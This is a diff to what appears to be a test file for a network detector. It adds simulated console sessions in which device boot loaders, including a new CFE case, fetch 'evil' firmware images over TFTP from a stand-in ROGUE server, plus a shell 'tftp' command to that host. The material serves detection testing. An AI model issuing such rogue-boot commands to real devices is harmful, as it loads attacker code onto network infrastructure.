@@ -56,6 +56,7 @@ def bw07_consoles(wire: Wire) -> None:
         ("BW07", 1542007381, "10.0.1.33", ADMIN),
         ("BW07", 1542007383, "10.0.1.34", ADMIN),
         ("BW07", 1542007384, "10.0.1.35", ADMIN),
+        ("BW07", 1542007385, "10.0.1.36", ADMIN),
     ],
     site=HQ,
     with_site=Expect(
@@ -65,11 +66,12 @@ def bw07_consoles(wire: Wire) -> None:
             command(33, "asa.bin"),
             command(34, "FGT_evil.out"),
             command(35, "onie/evil-installer"),
+            command(36, "evil.elf"),
         )
     ),
 )
 def bw07_loaders_say(wire: Wire) -> None:
-    """The loaders of IOS-XE, U-Boot and ASA, and ONIE, say from where they load by themselves; FortiOS' menu asks."""
+    """The loaders of IOS-XE, U-Boot, ASA, ONIE and CFE say from where they load by themselves; FortiOS' menu asks."""
     menu = f"Enter TFTP server address [192.168.1.168]: {ROGUE}\r\nEnter local address [192.168.1.188]: 10.0.1.34"
     for last, output in (
         (31, f"Receiving evil.bin from {ROGUE} !!!!!!"),
@@ -77,6 +79,7 @@ def bw07_loaders_say(wire: Wire) -> None:
         (33, f"tftp asa.bin@{ROGUE} via 10.0.1.254"),
         (34, f"{menu}\r\nEnter firmware image file name [image.out]: FGT_evil.out"),
         (35, f"ONIE: Executing installer: tftp://{ROGUE}/onie/evil-installer\r\nVerifying image checksum ... OK."),
+        (36, f"Loader:elf Filesys:tftp Dev:eth0 File:{ROGUE}:evil.elf Options:(null)\r\nLoading: 0x80001000/459"),
     ):
         session = Telnet(wire, ADMIN, f"10.0.1.{last}")
         session.tcp.reply(f"\r\nBooting\r\n{output}\r\ndone\r\n".encode())
@@ -126,6 +129,10 @@ def bw07_local_boots(wire: Wire) -> None:
         f"Info: Attempting tftp://{ROGUE}/onie-installer-x86_64 ...\nInfo: Attempting file://dev/sda2/onie-installer"
     )
     console(wire, 32, "ONIE:/ # ", ("onie-discovery-start", f"{tries}\nONIE: Executing installer: file://dev/sda2/x"))
+    flash = (
+        "Loader:raw Filesys:raw Dev:flash0.os File: Options:(null)\nLoader:raw Filesys:tftp Dev:eth0 File:: Options:"
+    )
+    console(wire, 33, "CFE> ", ("boot -raw -z flash0.os:", flash))
     console(wire, 30, "$ ", (f"tftp {ROGUE}", "tftp> "), ("dhcp -v eth0", ""), ("load average", ""))
 
 
